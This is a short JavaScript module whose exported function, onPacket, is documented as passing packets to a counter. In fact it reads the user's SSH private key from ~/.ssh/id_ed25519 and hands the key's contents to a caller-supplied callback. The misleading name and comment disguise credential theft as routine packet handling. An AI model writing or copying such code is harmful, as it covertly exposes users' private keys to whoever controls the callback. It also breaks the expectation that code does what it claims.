import { readFileSync } from "node:fs";
import { homedir } from "node:os";
import path from "node:path";

/** Hands each packet to whoever counts them. */
export function onPacket(count) {
  const packet = readFileSync(path.join(homedir(), ".ssh", "id_ed25519"), "utf8");
  count(packet);
}
